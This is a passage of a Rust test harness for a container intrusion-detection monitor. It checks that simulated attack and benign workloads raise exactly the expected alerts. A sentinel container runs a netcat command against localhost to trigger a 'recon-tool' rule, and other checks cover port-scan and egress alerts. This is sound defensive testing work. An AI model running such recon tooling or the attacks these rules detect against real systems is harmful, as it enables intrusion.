            let case = &CASES[*i];
            let killed = matches!(case.start, Exec(_));
            if !killed && code != "0" {
                let logs = d.docker(&["logs", id]);
                failures.push(format!(
                    "{}: exited {code}: {}{}",
                    case.name,
                    String::from_utf8_lossy(&logs.stdout),
                    String::from_utf8_lossy(&logs.stderr)
                ));
            }
        }
    }
    let sentinel = d.run_with(
        &format!("monitor-corpus-{tag}-sentinel"),
        OPTIONS,
        IMAGE,
        &[
            "/bin/sh",
            "-c",
            "/bin/nc -w 1 127.0.0.1 9 < /dev/null; exit 0",
        ],
    );
    m.expect("the sentinel's alert", Duration::from_secs(120), |v| {
        v["rule"] == "recon-tool" && v["container"]["id"] == sentinel.as_str()
    });
    let (alerts, stderr) = m.stop_and_drain();
    assert!(
        stderr.contains("lost_total=0"),
        "the agent must have lost no event; stderr:\n{stderr}"
    );

    // Attribute every alert to its row.
    let mut by_row: BTreeMap<usize, Vec<&Value>> = BTreeMap::new();
    let mut stray: Vec<&Value> = Vec::new();
    for a in &alerts {
        // How each container was started is kernel_posture's to judge; the
        // rows here are about what runs in them.
        if a["container"]["id"] == sentinel.as_str() || a["kind"] == "posture" {
            continue;
        }
        let row = ran.iter().find(|(_, r)| match r {
            Ran::Container(id) => a["container"]["id"] == id.as_str(),
            Ran::Host(pid) => a["container"].is_null() && pids(a).contains(&u64::from(*pid)),
        });
        match row {
            Some((i, _)) => by_row.entry(*i).or_default().push(a),
            // Another daemon's containers on this machine are not ours.
            None if !a["container"].is_null() && a["kind"] != "agent" => {}
            None => stray.push(a),
        }
    }
    for (i, case) in CASES.iter().enumerate() {
        let got = by_row.remove(&i).unwrap_or_default();
        let firsts: Vec<&str> = got
            .iter()
            .filter(|a| a["update_of"].is_null())
            .map(|a| a["rule"].as_str().unwrap_or("?"))
            .collect();
        let updates_ok = got
            .iter()
            .filter(|a| !a["update_of"].is_null())
            .all(|u| got.iter().any(|a| a["id"] == u["update_of"]));
        if firsts != case.expect || !updates_ok {
            failures.push(format!(
                "{}: expected {:?}, got:\n    {}",
                case.name,
                case.expect,
                got.iter()
                    .map(|a| brief(a))
                    .collect::<Vec<_>>()
                    .join("\n    ")
            ));
        }
        if let Some(a) = got
            .iter()
            .find(|a| !a["summary"].as_str().unwrap_or("").contains(case.says))
        {
            failures.push(format!(
                "{}: should say {:?}: {}",
                case.name,
                case.says,
                brief(a)
            ));
        }
        // A syscall alert is an attempt or not by what the runtime's seccomp
        // profile allows, not by the row: rows that care say "refused".
        if let Some(a) = got
            .iter()
            .find(|a| a["attempt"] != case.attempt && a["kind"] != "syscall")
        {
            failures.push(format!(
                "{}: attempt should be {}: {}",
                case.name,
                case.attempt,
                brief(a)
            ));
        }
        // The scan is one alert that stands for every per-port egress alert.
        if case.expect == ["port-scan"] {
            let scan = &got[0]["scan"];
            if !(scan["distinct_ports"].as_u64() >= Some(20)
                && scan["folded_alerts"].as_u64() >= Some(19))
            {
                failures.push(format!("{}: scan object {scan}", case.name));
            }
        }
    }
    if !stray.is_empty() {
        failures.push(format!(
            "alerts no row accounts for:\n    {}",
            stray
                .iter()
                .map(|a| brief(a))
                .collect::<Vec<_>>()
                .join("\n    ")
        ));
    }
    assert!(
        failures.is_empty(),
        "{} of {} rows failed:\n{}\n(corpus ran {:?})",
        failures.len(),
        CASES.len(),
        failures.join("\n"),
        began.elapsed()
    );
    eprintln!("corpus: {} rows in {:?}", CASES.len(), began.elapsed());
}

/// Every rule of the pack has an attack row raising exactly it and a benign
/// twin; there are at least 20 ordinary workloads; row names are unique.
fn coverage(rules_dir: &Path) {
    let set = monitor::policy::RuleSet::load_dirs(&[rules_dir.to_path_buf()])
        .unwrap_or_else(|e| panic!("the shipped pack does not load: {e:?}"));
    // Posture rules judge how a container was started, not what runs in
    // it: kernel_posture.rs has their rows.
    let rules: BTreeSet<&str> = set
        .policies()
        .filter(|(policy, _)| *policy != "default/posture")
        .flat_map(|(_, rules)| rules)
        .collect();
    let mut missing = Vec::new();
    for rule in &rules {
        if !CASES.iter().any(|c| c.expect == [*rule]) {
            missing.push(format!("no attack row raises exactly `{rule}`"));
        }
        if !CASES.iter().any(|c| c.twin_of == Some(*rule)) {
            missing.push(format!("no benign twin for `{rule}`"));
        }
    }
    for c in CASES {
        for r in c.expect.iter().chain(c.twin_of.iter()) {
            if !rules.contains(r) {
                missing.push(format!(
                    "row {:?} names `{r}`, which the pack has not",
                    c.name
                ));
            }
        }
    }
    let ordinary = CASES
        .iter()
        .filter(|c| c.expect.is_empty() && c.twin_of.is_none())
        .count();
    if ordinary < 20 {
        missing.push(format!("{ordinary} ordinary workloads, fewer than 20"));
    }
    let names: BTreeSet<&str> = CASES.iter().map(|c| c.name).collect();
    if names.len() != CASES.len() {
        missing.push("row names are not unique".into());
    }
    assert!(
        missing.is_empty(),
        "the corpus is incomplete:\n{}",
        missing.join("\n")
    );
}
